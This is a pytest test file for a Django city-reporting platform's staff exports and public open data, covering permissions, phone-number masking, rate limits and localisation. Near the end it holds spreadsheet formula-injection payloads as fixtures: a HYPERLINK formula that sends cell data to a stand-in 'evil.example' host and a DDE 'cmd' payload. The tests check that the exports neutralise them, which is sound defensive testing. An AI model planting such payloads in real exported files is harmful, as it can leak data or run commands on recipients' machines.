"""Exports of reports and timelines (staff) and open data (everyone): formats, filters, and who
gets personal data."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime

import pytest
from django.urls import reverse
from django.utils.http import http_date

from cityops.agencies.calendar import VIETNAM_TZ
from cityops.platform import clock
from cityops.reports import workflow
from cityops.reports.choices import RatingValue, RejectionReason, Visibility
from cityops.reports.tests.factories import CategoryFactory
from cityops.reports.tests.helpers import report_in, submit

pytestmark = pytest.mark.django_db

PHONE = "0905 123 456"
OCTOBER = datetime(2026, 10, 6, 9, tzinfo=VIETNAM_TZ)


@pytest.fixture
def reports(operator, agency, agency_staff, citizen):
    with clock.frozen_at(OCTOBER):
        handled = report_in(
            "resolved",
            operator=operator,
            agency=agency,
            staff=agency_staff,
            reporter=citizen,
            description=f"Cống bị tắc, gọi tôi số {PHONE}",
            contact_phone="0912345678",
        )
        other = report_in("accepted", operator=operator, category=CategoryFactory(code="tourism"))
        spam = workflow.report_reject(
            report=submit(description="Quảng cáo"), actor=operator, reason=RejectionReason.SPAM
        )
        fresh = submit(description="Chưa được xem xét")
    return {"handled": handled, "other": other, "spam": spam, "fresh": fresh}


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def rows_of(response) -> list[dict[str, str]]:
    text = body(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def export(client, user, fmt="csv", **params):
    """An export in English: the header labels are the msgids."""
    client.force_login(user)
    return client.get(reverse("dashboard:export", args=[fmt]), params, HTTP_ACCEPT_LANGUAGE="en")


def test_operators_export_reports_with_the_reporters_contact(client, operator, reports):
    response = export(client, operator)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = {row["ID"]: row for row in rows_of(response)}
    handled = rows[str(reports["handled"].pk)]
    assert handled["Reporter's username"] == "citizen"
    assert handled["Contact phone"] == "0912345678"
    assert PHONE in handled["Description"]
    assert len(rows) == 4


def test_leaders_export_no_reporter_and_read_the_text_masked(client, leader, reports):
    rows = rows_of(export(client, leader))
    assert "Reporter's username" not in rows[0]
    assert "Contact phone" not in rows[0]
    handled = next(row for row in rows if row["ID"] == str(reports["handled"].pk))
    assert PHONE not in handled["Description"]
    assert "•" in handled["Description"]


def test_the_export_takes_the_console_filters(client, operator, reports, agency):
    rows = rows_of(export(client, operator, agency=agency.code, status="resolved"))
    assert [row["ID"] for row in rows] == [str(reports["handled"].pk)]
    assert rows_of(export(client, operator, submitted_from="2026-11-01")) == []


def test_a_bad_filter_is_refused_with_the_reason(client, operator):
    response = export(client, operator, status="nonsense")
    assert response.status_code == 400
    assert "status" in response.content.decode()


def test_agency_staff_and_citizens_may_not_export(client, agency_staff, citizen):
    assert export(client, agency_staff).status_code == 403
    assert export(client, citizen).status_code == 403


def test_the_spreadsheet_is_a_real_xlsx_with_a_header_and_a_row_per_report(
    client, operator, reports
):
    response = export(client, operator, "xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    with zipfile.ZipFile(io.BytesIO(body(response))) as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count("<row ") == 1 + 4
    assert "Submitted at" in sheet  # constant_memory writes inline strings
    assert "Contact phone" in sheet


def test_the_geojson_has_a_point_feature_per_located_report(client, leader, reports):
    response = export(client, leader, "geojson")
    collection = json.loads(body(response))
    assert collection["type"] == "FeatureCollection"
    feature = next(
        f for f in collection["features"] if f["properties"]["id"] == reports["handled"].pk
    )
    assert feature["geometry"] == {"type": "Point", "coordinates": [107.59, 16.46]}
    assert feature["properties"]["status"] == "resolved"


def test_the_timeline_export_lists_every_event_of_the_chosen_reports(
    client, operator, leader, reports
):
    client.force_login(operator)
    handled = reports["handled"]
    response = client.get(
        reverse("dashboard:export_events"), {"id": str(handled.pk)}, HTTP_ACCEPT_LANGUAGE="en"
    )
    rows = rows_of(response)
    assert [row["Event"] for row in rows] == [
        "submitted",
        "accepted",
        "assigned",
        "agency_accepted",
        "resolved",
    ]
    assert rows[0]["Actor"] == "citizen"
    client.force_login(leader)
    response = client.get(
        reverse("dashboard:export_events"), {"id": str(handled.pk)}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert "Actor" not in rows_of(response)[0]


def test_leaders_read_staff_public_words_as_written_and_the_rest_masked(
    client, operator, agency_staff, citizen, leader, reports
):
    switchboard = "Gọi 0234 3822 222 (tổng đài)"
    handled = reports["handled"]
    workflow.report_add_note(
        report=handled, actor=agency_staff, text=switchboard, visibility=Visibility.PUBLIC
    )
    workflow.report_add_note(
        report=handled, actor=operator, text=f"Đã gọi {PHONE}", visibility=Visibility.INTERNAL
    )
    workflow.report_rate(
        report=handled, actor=citizen, value=RatingValue.UNSATISFIED, comment=f"Gọi lại {PHONE}"
    )

    client.force_login(leader)
    response = client.get(
        reverse("dashboard:export_events"), {"id": str(handled.pk)}, HTTP_ACCEPT_LANGUAGE="en"
    )
    notes = [row["Note"] for row in rows_of(response)][-3:]
    assert notes == [switchboard, "Đã gọi 090•••••56", "Gọi lại 090•••••56"]


# --- open data ---------------------------------------------------------------------------------


def open_data(client, fmt="csv", **params):
    return client.get(
        reverse("public_stats:open_data", args=[fmt]),
        params,
        REMOTE_ADDR="10.1.2.3",
        HTTP_ACCEPT_LANGUAGE="en",
    )


def test_open_data_lists_reviewed_public_reports_without_personal_data(client, reports):
    response = open_data(client)
    assert response.status_code == 200
    assert response["Cache-Control"] == "public, max-age=300"
    rows = rows_of(response)
    assert sorted(int(row["ID"]) for row in rows) == sorted(
        [reports["handled"].pk, reports["other"].pk]
    )
    content = body(open_data(client)).decode()
    for personal in ("0912345678", PHONE, "citizen", "contact", "reporter"):
        assert personal not in content


def test_open_data_geojson_is_a_feature_collection_of_the_same_reports(client, reports):
    collection = json.loads(body(open_data(client, "geojson")))
    assert {f["properties"]["id"] for f in collection["features"]} == {
        reports["handled"].pk,
        reports["other"].pk,
    }


def test_open_data_answers_not_modified_when_nothing_changed(client, reports):
    first = open_data(client)
    assert first.status_code == 200
    again = client.get(
        reverse("public_stats:open_data", args=["csv"]),
        HTTP_IF_MODIFIED_SINCE=first["Last-Modified"],
        REMOTE_ADDR="10.1.2.3",
    )
    assert again.status_code == 304
    stale = client.get(
        reverse("public_stats:open_data", args=["csv"]),
        HTTP_IF_MODIFIED_SINCE=http_date(0),
        REMOTE_ADDR="10.1.2.3",
    )
    assert stale.status_code == 200


def test_open_data_is_rate_limited_per_client(client, reports, settings):
    settings.CITYOPS_RATE_LIMITS = {**settings.CITYOPS_RATE_LIMITS, "open_data_per_ip": "2/m"}
    assert open_data(client).status_code == 200
    assert open_data(client).status_code == 200
    refused = open_data(client)
    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 0
    other = client.get(reverse("public_stats:open_data", args=["csv"]), REMOTE_ADDR="10.9.9.9")
    assert other.status_code == 200


def test_open_data_takes_the_same_filters(client, reports):
    rows = rows_of(open_data(client, category="tourism"))
    assert [int(row["ID"]) for row in rows] == [reports["other"].pk]


# --- what a spreadsheet does with the cells ------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Xem ảnh")'
FORMULA_DESCRIPTION = "+1+cmd|' /C calc'!A0"
FORMULA_ADDRESS = "@SUM(1+1)"


@pytest.fixture
def formula_report(operator):
    with clock.frozen_at(OCTOBER):
        return report_in(
            "accepted",
            operator=operator,
            title=FORMULA_TITLE,
            description=FORMULA_DESCRIPTION,
            address=FORMULA_ADDRESS,
        )


def test_one_helper_makes_every_formula_like_cell_inert_and_keeps_numbers_numbers():
    from cityops.stats.exports import FormulaLike, _csv_text, export_cells

    cells = export_cells(["=1+1", "+1", "-5", "@A1", "\t=1", "\r=1", "Lê Lợi", -5, 2.5, None])
    assert [isinstance(cell, FormulaLike) for cell in cells] == [True] * 6 + [False] * 4
    assert [_csv_text(cell) for cell in cells] == [
        "'=1+1",
        "'+1",
        "'-5",
        "'@A1",
        "'\t=1",
        "'\r=1",
        "Lê Lợi",
        -5,
        2.5,
        "",
    ]


def test_csv_exports_neutralise_formulas_for_staff_and_in_open_data(
    client, operator, formula_report
):
    staff_rows = rows_of(export(client, operator))
    client.logout()
    public_rows = rows_of(open_data(client))
    for rows in (staff_rows, public_rows):
        row = next(row for row in rows if row["ID"] == str(formula_report.pk))
        assert row["Title"] == "'" + FORMULA_TITLE
        assert row["Description"] == "'" + FORMULA_DESCRIPTION
        assert row["Address"] == "'" + FORMULA_ADDRESS


def test_the_xlsx_export_holds_formula_like_text_as_text_never_as_a_formula(
    client, operator, formula_report
):
    with zipfile.ZipFile(io.BytesIO(body(export(client, operator, "xlsx")))) as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
        styles = workbook.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert "HYPERLINK" in sheet  # as an inline string
    assert 'quotePrefix="1"' in styles  # stays text when someone edits the cell


def test_every_csv_starts_with_a_bom_and_gives_times_in_vietnam_with_the_offset(
    client, operator, reports
):
    handled = reports["handled"]
    for response in (export(client, operator), open_data(client)):
        raw = body(response)
        assert raw.startswith("\ufeff".encode())
        row = next(r for r in rows_of_bytes(raw) if r["ID"] == str(handled.pk))
        assert row["Submitted at"] == "2026-10-06T09:00:00+07:00"


def rows_of_bytes(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_headers_are_in_the_readers_language(client, operator, reports):
    client.force_login(operator)
    url = reverse("dashboard:export", args=["csv"])
    vietnamese = body(client.get(url, HTTP_ACCEPT_LANGUAGE="vi")).decode("utf-8-sig")
    english = body(client.get(url, HTTP_ACCEPT_LANGUAGE="en")).decode("utf-8-sig")
    assert "Lĩnh vực,Trạng thái" in vietnamese.splitlines()[0]
    assert "Category,Status" in english.splitlines()[0]
    open_vi = client.get(reverse("public_stats:open_data", args=["csv"]), HTTP_ACCEPT_LANGUAGE="vi")
    assert "Lĩnh vực,Trạng thái" in body(open_vi).decode("utf-8-sig").splitlines()[0]


def test_the_staff_export_gives_the_reporters_name_in_the_vietnamese_order(
    client, operator, reports, citizen
):
    citizen.full_name = "Nguyễn Văn Bình"
    citizen.save(update_fields=["full_name"])
    rows = rows_of(export(client, operator))
    handled = next(row for row in rows if row["ID"] == str(reports["handled"].pk))
    assert handled["Reporter's full name"] == "Nguyễn Văn Bình"
